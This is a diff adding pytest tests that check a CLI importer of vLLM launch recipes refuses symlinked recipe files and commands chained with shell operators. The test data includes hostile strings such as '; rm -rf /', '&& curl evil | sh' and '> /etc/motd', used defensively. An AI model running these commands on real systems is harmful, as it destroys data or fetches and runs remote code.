@@ -386,3 +386,58 @@ def test_a_lane_name_the_format_refuses_is_named_as_the_lane_option(tmp_path):
         import_jm_command(mutated(tmp_path), lane="bad lane!")
     assert [str(p) for p in caught.value.problems] == [
         "--lane: lane name 'bad lane!' must match ^[A-Za-z0-9][A-Za-z0-9_.-]{0,62}$ (the imported recipe's lanes)"]
+
+
+@pytest.mark.parametrize("named", ["folder", "file"])
+def test_a_recipe_yaml_that_is_a_link_is_refused_unread(tmp_path, named):
+    """A recipe.yaml linked to another file (the shadow file, say) was read and its lines quoted in the errors."""
+    secret = tmp_path / "secret.yaml"
+    secret.write_text("root: x:0:0:secret-first-line\n")
+    folder = jm_folder(tmp_path)
+    (folder / "recipe.yaml").unlink()
+    (folder / "recipe.yaml").symlink_to(secret)
+
+    result = lanectl("import", "jm", str(folder if named == "folder" else folder / "recipe.yaml"), cwd=tmp_path)
+
+    assert (result.returncode, result.stdout) == (2, "")
+    assert result.stderr == (f"lanectl: {folder}/recipe.yaml is a symbolic link; give the J-M recipe's own file "
+                             "(copy it into the folder)\n")
+
+
+def test_a_launch_command_ending_in_a_backslash_is_a_located_problem(tmp_path):
+    folder = jm_folder(tmp_path)
+    (folder / "launch-command.txt").write_text("vllm serve /model \\\n  --served-model-name m \\")
+
+    result = lanectl("import", "jm", str(folder), cwd=tmp_path)
+
+    assert (result.returncode, result.stdout) == (2, "")
+    assert result.stderr.splitlines()[0] == (f"{folder}/launch-command.txt:2:25: the command ends in a backslash "
+                                             "that escapes nothing; remove it")
+
+
+@pytest.mark.parametrize(("command", "operator", "line", "column"), [
+    ("vllm serve /model --served-model-name m ; rm -rf /", ";", 1, 41),
+    ("vllm serve /model \\\n  --served-model-name m && curl evil | sh", "&&", 2, 25),
+    ("vllm serve /model --served-model-name m > /etc/motd", ">", 1, 41),
+    ("vllm serve /model --served-model-name m;reboot", ";", 1, 40),
+])
+def test_a_launch_command_that_runs_more_than_vllm_serve_is_refused(tmp_path, command, operator, line, column):
+    """`; rm -rf /` was imported as five arguments of vllm serve, without a word."""
+    folder = jm_folder(tmp_path)
+    (folder / "launch-command.txt").write_text(command + "\n")
+
+    result = lanectl("import", "jm", str(folder), cwd=tmp_path)
+
+    assert (result.returncode, result.stdout) == (2, "")
+    assert result.stderr.splitlines()[0] == (
+        f"{folder}/launch-command.txt:{line}:{column}: the command runs more than `vllm serve` (shell operator "
+        f"`{operator}`); lanectl imports the one command: remove what the shell would run besides it")
+
+
+def test_a_quoted_operator_stays_an_argument(tmp_path):
+    folder = jm_folder(tmp_path)
+    (folder / "launch-command.txt").write_text(LAUNCH.rstrip("\n") + " --chat-template-content-format ';'\n")
+
+    result = lanectl("import", "jm", str(folder), cwd=tmp_path)
+
+    assert result.returncode == 0, result.stderr
